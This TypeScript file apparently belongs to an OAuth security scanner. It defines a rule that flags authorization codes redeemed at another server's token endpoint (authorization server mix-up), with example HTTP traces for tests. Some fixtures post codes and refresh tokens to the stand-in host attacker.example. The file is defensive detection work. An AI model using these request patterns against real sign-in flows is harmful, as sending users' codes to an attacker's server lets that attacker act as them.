import { endpointOf } from '../http/endpoint.ts';
import { param, paramValue, wordOf } from '../http/params.ts';
import type { Examples } from '../model/example.ts';
import type { Flow } from '../model/flow.ts';
import { messagesOf } from '../model/flow.ts';
import type { TokenRequest } from '../model/message.ts';
import type { Rule, RuleContext } from '../model/rule.ts';
import { type ClientRequest, clientRequest } from './support/client-request.ts';
import { metadata } from './support/example-sign-in.ts';
import { PUSHED_UNSEEN } from './support/example-traces.ts';
import { judgeTokenRequests } from './support/token-requests.ts';

export const rule: Rule = {
  id: 'as-mixup',
  title: 'Code of one authorization server sent to another',
  subject: 'Server that the code goes to',
  group: 'D',
  severity: 'high',
  confidence: 'firm',
  needs: ['authorization request', 'token request', 'request body'],
  references: [
    { spec: 'RFC 9700', section: '4.4', level: 'none' },
    { spec: 'RFC 9700', section: '4.4.2', level: 'MUST' },
    { spec: 'RFC 9207', section: '4', level: 'none' },
  ],
  asvs: ['10.2.2'],
  why: 'The other server can redeem the code in place of the client and act as the visitor.',
  fix: 'Store the issuer with each transaction, check `iss` of the response, and use only the token endpoint of that issuer.',
  parents: [],

  check(flow, c) {
    return judgeTokenRequests(flow, c, (message) => {
      const code = param(message, 'code');
      if (code === null) return message.bodyHidden === null ? c.notApplicable : c.cannotTell('request body');
      const request = clientRequest(flow);
      if (request.is === 'none') return c.cannotTell('authorization request');
      if (isOwnBackend(flow, message)) return c.notApplicable;
      if (!c.sure(flow, message)) return c.cannotTell('sure link');
      const evidence = [
        c.at(message, code),
        { message: request.message, where: 'url', name: 'authorization endpoint', value: request.message.endpoint.url },
      ] as const;
      switch (relation(flow, c.once(issuersByEndpoint), request.message, message)) {
        case 'same':
          return c.pass;
        case 'unclear':
          return c.cannotTell('server metadata');
        case 'other issuer':
          return c.fail({
            evidence,
            summary: c.say`The code came from ${c.plain(request.message.endpoint.host)} and was sent to ${c.plain(message.endpoint.host)}, which belongs to another issuer.`,
          });
        case 'other site':
          return c.fail({
            evidence,
            severity: 'medium',
            confidence: 'tentative',
            summary: c.say`The code came from ${c.plain(request.message.endpoint.host)} and was sent to ${c.plain(message.endpoint.host)}; nothing seen says that both are one server.`,
          });
      }
    });
  },
};

function relation(
  flow: Flow,
  issuers: ReadonlyMap<string, string>,
  request: ClientRequest,
  exchange: TokenRequest,
): 'same' | 'unclear' | 'other issuer' | 'other site' {
  const asked = issuers.get(request.endpoint.url);
  const used = issuers.get(exchange.endpoint.url);
  if (asked !== undefined && used !== undefined) return asked === used ? 'same' : 'other issuer';
  const servers = messagesOf(flow, 'authorizationRequest').filter(({ hop }) => hop !== 'upstream');
  const isNear = (where: 'host' | 'site'): boolean =>
    [request, ...servers].some(
      ({ endpoint }) =>
        endpoint[where] === exchange.endpoint[where] || (endpoint.loopback && exchange.endpoint.loopback),
    );
  if (isNear('host')) return 'same';
  if (request.provider !== null && exchange.provider !== null) {
    return request.provider.id === exchange.provider.id ? 'same' : 'other issuer';
  }
  // Two hosts of a site can be two servers, or one.
  if (isNear('site')) return 'unclear';
  // A provider that is known by one host may serve the other under a name of the customer.
  return request.provider === null && exchange.provider === null ? 'other site' : 'unclear';
}

/** Issuers of the metadata seen in the trace, by the addresses of their endpoints; the first to name one has it. */
function issuersByEndpoint({ flows }: Pick<RuleContext, 'flows'>): ReadonlyMap<string, string> {
  const issuers = new Map<string, string>();
  for (const { document } of flows.flatMap((flow) => messagesOf(flow, 'metadata'))) {
    const issuer = document?.['issuer'];
    if (typeof issuer !== 'string') continue;
    for (const name of ENDPOINTS) {
      const url = endpointOf(wordOf(document?.[name]))?.url;
      if (url !== undefined && !issuers.has(url)) issuers.set(url, issuer);
    }
  }
  return issuers;
}

const ENDPOINTS = ['authorization_endpoint', 'token_endpoint', 'pushed_authorization_request_endpoint'];

/** The page hands the code to the server of its own application, whose exchange is out of sight. */
function isOwnBackend(flow: Flow, message: TokenRequest): boolean {
  const pages = [
    ...messagesOf(flow, 'authorizationRequest').map((request) => paramValue(request, 'redirect_uri')),
    ...messagesOf(flow, 'authorizationResponse').map((response) => response.url),
    message.exchange.initiator,
  ];
  const sites = messagesOf(flow, 'authorizationRequest').map(({ endpoint }) => endpoint.site);
  return (
    !sites.includes(message.endpoint.site) &&
    pages.some((page) => page !== null && endpointOf(page)?.site === message.endpoint.site)
  );
}

const signIn = (token: string, authorize = 'https://as.example/authorize', before = ''): string => `
GET ${authorize}?response_type=code&client_id=web1&redirect_uri=https%3A%2F%2Fapp.example%2Fcb&state=af0ifjsldkjQ2w7

GET https://app.example/cb?code=SplxlOBeZQQYbYS6WxSbIA&state=af0ifjsldkjQ2w7

${before}
POST ${token}
Content-Type: application/x-www-form-urlencoded

grant_type=authorization_code&code=SplxlOBeZQQYbYS6WxSbIA&client_id=web1&redirect_uri=https%3A%2F%2Fapp.example%2Fcb
`;
const OTHER = `
GET https://attacker.example/.well-known/oauth-authorization-server

200
Content-Type: application/json

{"issuer":"https://attacker.example","authorization_endpoint":"https://attacker.example/authorize","token_endpoint":"https://attacker.example/token"}
`;
const EVIL = 'https://attacker.example/token';
const GOOGLE = 'https://accounts.google.com/o/oauth2/v2/auth';

export const examples: Examples = {
  violation: [
    { name: 'two issuers by their metadata', trace: metadata() + OTHER + signIn(EVIL), severity: 'high' },
    { name: 'two known providers', trace: signIn('https://slack.com/api/oauth.v2.access', GOOGLE), severity: 'high' },
    { name: 'nothing known of either', trace: signIn(EVIL), severity: 'medium' },
    { name: 'metadata of one of them', trace: metadata() + signIn(EVIL), severity: 'medium' },
    {
      name: 'two issuers on one site',
      trace: metadata() + OTHER.replaceAll('attacker.example', 'b.as.example') + signIn('https://b.as.example/token'),
      severity: 'high',
    },
    { name: 'this machine and a host', trace: signIn('http://127.0.0.1:8080/token'), severity: 'low' },
  ],
  clean: [
    { name: 'the same host', trace: signIn('https://as.example/token') },
    {
      name: 'one issuer with two sites',
      trace: metadata({ token_endpoint: 'https://as-api.example/token' }) + signIn('https://as-api.example/token'),
    },
  ],
  lookAlike: [
    {
      name: 'the two sites of a provider',
      trace: signIn('https://oauth2.googleapis.com/token', GOOGLE),
      verdict: 'pass',
    },
    {
      name: 'two names of this machine',
      trace: signIn('http://127.0.0.1:8080/token', 'http://localhost:8080/authorize'),
      verdict: 'pass',
    },
    {
      name: 'the server of the application',
      trace: signIn('https://app.example/oauth/token'),
      verdict: 'notApplicable',
    },
    {
      name: 'the server of the page that sends it',
      trace: signIn('https://backend.example/oauth/token', undefined, '# initiator https://www.backend.example'),
      verdict: 'notApplicable',
    },
    {
      name: 'the server hands the request on to another site of its own',
      trace: `
        GET https://as.example/authorize?response_type=code&client_id=web1&redirect_uri=https%3A%2F%2Fapp.example%2Fcb&state=af0ifjsldkjQ2w7

        302
        Location: https://login-as.example/authorize?response_type=code&client_id=web1&redirect_uri=https%3A%2F%2Fapp.example%2Fcb&state=af0ifjsldkjQ2w7

        ${signIn('https://login-as.example/token', 'https://login-as.example/authorize')}
      `,
      verdict: 'pass',
    },
    {
      name: 'a refresh elsewhere',
      trace:
        'POST https://attacker.example/token\nContent-Type: application/x-www-form-urlencoded\n\ngrant_type=refresh_token&refresh_token=tGzv3JOkF0XG5Qx2TlKWIA&client_id=web1',
      verdict: 'notApplicable',
    },
  ],
  cannotTell: [
    {
      name: 'another host of the site, without metadata',
      trace: signIn('https://b.as.example/token'),
      missing: ['server metadata'],
    },
    {
      name: 'a provider under a name of the customer',
      trace: signIn('https://tenant.auth0.com/oauth/token'),
      missing: ['server metadata'],
    },
    {
      name: 'the authorization request was not seen',
      trace: signIn(EVIL).replace(/GET \S+authorize\S+/, ''),
      missing: ['authorization request'],
    },
    {
      name: 'a hidden body',
      trace: '# hides request-body\nPOST https://as.example/token?grant_type=authorization_code\n\ncode',
      missing: ['request body'],
    },
    {
      name: 'only the client is the same',
      trace: `${signIn('https://as.example/token')
        .replace(/GET https:\/\/app\S+/, '')
        .replace(/code=Splxl\S+?&/, 'code=Tqmy5k3NpQwL0aXvB2cD&')}`,
      missing: ['sure link'],
    },
    {
      name: 'only a pushed request',
      trace: `${PUSHED_UNSEEN}\n\n${signIn(EVIL).replace(/GET \S+authorize\S+/, '')}`,
      missing: ['authorization request'],
    },
  ],
};
